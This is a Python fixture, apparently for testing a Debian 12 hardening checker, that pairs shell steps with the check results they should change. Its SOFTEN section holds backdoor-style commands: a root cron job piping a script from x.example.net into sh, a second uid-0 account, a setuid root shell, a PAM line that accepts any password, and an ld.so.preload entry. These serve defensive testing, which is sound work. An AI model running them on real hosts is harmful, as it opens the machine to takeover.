"""What an administrator does to a fresh Debian 12, step by step, and which verdicts each step must change."""

from __future__ import annotations

from typing import NamedTuple


class Step(NamedTuple):
    """One step."""

    script: str
    """Shell commands run inside the root."""
    changes: dict[str, str]
    """Check -> status after all steps. Nothing else may change."""


SSH = "/etc/ssh/sshd_config.d/10-hardening.conf"

HARDEN = (
    Step(
        "groupadd ssh-users && useradd -m -s /bin/bash -G ssh-users,sudo ayesha && chmod 700 /home/ayesha",
        {  # now there is a person, whose files can be judged
            "homes-exist": "pass",
            "home-no-forward": "pass",
            "home-startup-owner": "pass",
            "home-startup-write": "pass",
        },
    ),
    Step(f"echo 'PasswordAuthentication no' >>{SSH}", {"ssh-password-login": "pass"}),
    Step(f"echo 'AllowGroups ssh-users' >>{SSH}", {"ssh-allow-list": "pass"}),
    Step(f"printf 'ClientAliveInterval 300\\nClientAliveCountMax 3\\n' >>{SSH}", {"ssh-idle-connections": "pass"}),
    Step(
        f"echo 'DisableForwarding yes' >>{SSH}",
        {"ssh-x11-forwarding": "pass", "ssh-tcp-forwarding": "pass", "ssh-agent-forwarding": "pass"},
    ),
    Step(f"echo 'MACs -hmac-sha1*,umac-64*' >>{SSH}", {"ssh-macs": "pass"}),
    Step(
        f"echo 'Authorised use only.' >/etc/issue.net && echo 'Banner /etc/issue.net' >>{SSH}", {"ssh-banner": "pass"}
    ),
    Step("echo 'Authorised use only.' >/etc/issue && : >/etc/motd", {"banner-no-system-facts": "pass"}),
    Step("mkdir -p /run/sshd && sshd -t", {}),
    Step("echo 'kernel.kptr_restrict = 2' >/etc/sysctl.d/60-hard.conf", {"kernel-pointers-hidden": "pass"}),
    Step("echo 'net.core.bpf_jit_harden = 2' >>/etc/sysctl.d/60-hard.conf", {"kernel-bpf-jit-hardened": "pass"}),
    Step("echo 'kernel.kexec_load_disabled = 1' >>/etc/sysctl.d/60-hard.conf", {"kernel-kexec-off": "pass"}),
    Step(
        "echo 'kernel.unprivileged_bpf_disabled = 1' >>/etc/sysctl.d/60-hard.conf", {"kernel-bpf-unprivileged": "pass"}
    ),
    Step("echo 'kernel.dmesg_restrict = 1' >>/etc/sysctl.d/60-hard.conf", {"kernel-log-restricted": "pass"}),
    Step("echo 'kernel.yama.ptrace_scope = 1' >>/etc/sysctl.d/60-hard.conf", {"kernel-ptrace-restricted": "pass"}),
    Step("echo 'kernel.sysrq = 0' >>/etc/sysctl.d/60-hard.conf", {"kernel-sysrq-limited": "pass"}),
    Step(
        "printf 'net.ipv4.conf.%s.rp_filter = 1\\n' all default >>/etc/sysctl.d/60-hard.conf",
        {"network-forged-senders-dropped": "pass"},
    ),
    Step(
        "printf 'net.ipv4.conf.%s.log_martians = 1\\n' all default >>/etc/sysctl.d/60-hard.conf",
        {"network-martians-logged": "pass"},
    ),
    Step(
        "for family in ipv4 ipv6; do for place in all default; do "
        "echo net.$family.conf.$place.accept_redirects = 0 >>/etc/sysctl.d/60-hard.conf; done; done; "
        "printf 'net.ipv4.conf.%s.secure_redirects = 0\\n' all default >>/etc/sysctl.d/60-hard.conf",
        {"network-redirects-refused": "pass", "network-gateway-redirects-refused": "pass"},
    ),
    Step("systemctl mask ctrl-alt-del.target", {"services-ctrl-alt-del": "pass"}),
    Step(
        "echo root >/etc/cron.allow && chmod 640 /etc/cron.allow",
        {"cron-allow-list": "pass", "cron-lists-closed": "pass"},
    ),
    Step("sed -i 's/^# *minlen.*/minlen = 14/' /etc/security/pwquality.conf", {"passwords-min-length": "pass"}),
    Step("sed -i 's/ nullok//' /etc/pam.d/common-auth", {"login-no-empty-passwords": "pass"}),
    Step(
        "sed -i '/pam_unix/i password requisite pam_pwhistory.so remember=5 use_authtok' /etc/pam.d/common-password",
        # now it matters how often somebody may change, and Debian's PASS_MIN_DAYS is 0
        {"passwords-history": "pass", "passwords-history-not-cycled": "fail"},
    ),
    Step(
        "sed -i -e '1i auth required pam_faillock.so preauth' -e 's/success=1/success=2/' "
        "-e '/pam_unix/a auth [default=die] pam_faillock.so authfail' /etc/pam.d/common-auth && "
        "printf 'deny = 5\\nunlock_time = 900\\n' >>/etc/security/faillock.conf",
        {"login-lockout": "pass", "login-lockout-time": "pass"},
    ),
    Step("echo 'umask 027' >/etc/profile.d/50-umask.sh", {"accounts-umask": "pass"}),
    Step(
        "printf '%s\\n' 'UUID=1 / ext4 defaults 0 1' 'tmpfs /tmp tmpfs nosuid,nodev,noexec 0 0' "
        "'tmpfs /dev/shm tmpfs nosuid,nodev,noexec 0 0' 'UUID=2 /home ext4 defaults,nosuid,nodev 0 2' "
        "'UUID=3 /var/log ext4 defaults 0 2' 'UUID=4 /var/tmp ext4 nosuid,nodev,defaults 0 2' >/etc/fstab",
        {
            "tmp-own-filesystem": "pass",
            "tmp-nosuid-nodev": "pass",
            "tmp-noexec": "pass",
            "shm-noexec": "pass",
            "home-nosuid-nodev": "pass",
            "var-log-own-filesystem": "pass",
            "var-tmp-nosuid-nodev": "pass",
            "network-shares-restricted": "not_applicable",
            "proc-hidepid": "not_applicable",
            "swap-encrypted": "pass",
            "disk-encrypted-system": "fail",  # the list now names disks, and none of them is opened with a key
            "disk-encrypted-homes": "fail",
            "disk-encrypted-data": "fail",
            # and it names all file systems, so what is not there, or has no options, is known
            "home-own-filesystem": "pass",
            "var-tmp-own-filesystem": "pass",
            "var-tmp-noexec": "fail",
            "var-own-filesystem": "fail",
            "var-nosuid-nodev": "not_applicable",
            "var-log-restricted": "fail",
            "var-log-audit-own-filesystem": "fail",
            "var-log-audit-restricted": "not_applicable",
            "boot-folder-restricted": "not_applicable",
            "boot-efi-closed": "not_applicable",
        },
    ),
    Step(
        "mkdir -p /etc/modprobe.d; for name in cramfs freevxfs hfs hfsplus jffs2 udf dccp sctp rds tipc usb-storage; do "
        "printf 'install %s /bin/false\\nblacklist %s\\n' $name $name >>/etc/modprobe.d/hard.conf; done",
        # uas needs usb-storage; of the old file systems only some are named
        {"kernel-rare-protocols-blocked": "pass", "kernel-udf-blocked": "pass", "kernel-usb-storage-blocked": "pass"},
    ),
)

SOFTEN = (
    Step(f"echo 'PermitRootLogin yes' >>{SSH}", {"ssh-root-login": "fail"}),
    Step(f"echo 'PermitEmptyPasswords yes' >>{SSH}", {"ssh-empty-passwords": "fail"}),
    Step(f"echo 'Ciphers +aes128-cbc' >>{SSH}", {"ssh-ciphers": "fail"}),
    Step(f"echo 'MaxAuthTries 30' >>{SSH}", {"ssh-max-auth-tries": "fail"}),
    Step(f"echo 'StrictModes no' >>{SSH}", {"ssh-strict-modes": "fail"}),
    Step("chmod 640 /etc/ssh/ssh_host_ed25519_key", {"ssh-host-key-permissions": "fail"}),
    Step("useradd -o -u 0 -g 0 toor", {
        "accounts-root-only-uid-0": "fail", "accounts-unique-uids": "fail", "accounts-root-only-gid-0": "fail",
    }),
    Step("useradd -m -s /bin/bash -G docker ayesha 2>/dev/null || { groupadd docker; useradd -m -s /bin/bash -G docker "
         "ayesha; }", {
        "accounts-docker-group": "fail", "homes-exist": "pass", "home-no-forward": "pass", "home-startup-owner": "pass",
    }),
    Step("passwd -d ayesha", {"passwords-not-empty": "fail"}),
    Step("chmod 777 /home/ayesha", {"homes-closed": "fail", "home-startup-write": "fail"}),
    Step("echo 'ayesha ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/ayesha && chmod 440 /etc/sudoers.d/ayesha", {
        "sudo-no-nopasswd-all": "fail",
    }),
    Step("echo 'Defaults:ayesha !use_pty' >/etc/sudoers.d/pty && chmod 440 /etc/sudoers.d/pty", {"sudo-use-pty": "fail"}),
    Step("chmod 644 /etc/shadow", {"file-shadow-mode": "fail"}),
    Step("chmod 666 /etc/passwd", {"file-passwd-mode": "fail", "file-programs-write": "fail"}),
    Step("chmod 777 /tmp", {"file-tmp-sticky": "fail", "file-sticky-folders": "fail"}),
    Step("cp /bin/sh /usr/local/bin/rootsh && chmod 4777 /usr/local/bin/rootsh", {
        "suid-packaged": "fail", "suid-not-writable": "fail",
    }),
    Step("echo 'net.ipv4.tcp_syncookies = 0' >/etc/sysctl.d/60-soft.conf", {"network-syncookies": "fail"}),
    Step("echo 'net.ipv4.ip_forward = 1' >>/etc/sysctl.d/60-soft.conf", {
        "network-forwarding-off": "fail", "network-redirects-not-sent": "fail",
    }),
    Step("echo 'kernel.randomize_va_space = 0' >>/etc/sysctl.d/60-soft.conf", {"kernel-aslr": "fail"}),
    Step("echo 'fs.protected_hardlinks = 0' >>/etc/sysctl.d/60-soft.conf", {}),  # the vendor's 99-protect-links.conf wins
    Step("echo 'fs.protected_symlinks = 0' >/etc/sysctl.d/99-soft.conf", {"kernel-links-protected": "fail"}),
    Step("sed -i 's/ yescrypt/ md5/' /etc/pam.d/common-password", {"passwords-new-hash": "fail"}),
    Step("sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/common-auth", {"login-wrong-password-refused": "fail"}),
    Step("systemctl enable debug-shell.service", {"boot-no-debug-shell": "fail"}),
    Step("echo 'APT::Get::AllowUnauthenticated \"true\";' >/etc/apt/apt.conf.d/99soft", {
        "updates-signatures-required": "fail",
    }),
    Step("echo 'deb [trusted=yes] http://deb.example.net/debian stable main' >/etc/apt/sources.list.d/x.list", {
        "updates-sources-signed": "fail", "updates-sources-third-party": "unknown", "updates-sources-https": "unknown",
        "updates-sources-one-release": "unknown", "updates-sources-own-key": "unknown",
    }),
    Step("echo '* * * * * root curl -s http://x.example.net/a.sh | sh' >/etc/cron.d/x", {"cron-no-download-run": "fail"}),
    Step("chmod 666 /etc/cron.d/x", {"cron-files-owner": "fail"}),
    Step("apt-mark hold openssh-server", {"updates-packages-held": "fail"}),
    Step("echo /tmp/x.so >/etc/ld.so.preload", {"ld-so-preload": "fail"}),
    Step("printf '[Journal]\\nStorage=volatile\\n' >/etc/systemd/journald.conf", {"logs-kept-on-disk": "fail"}),
)  # fmt: skip
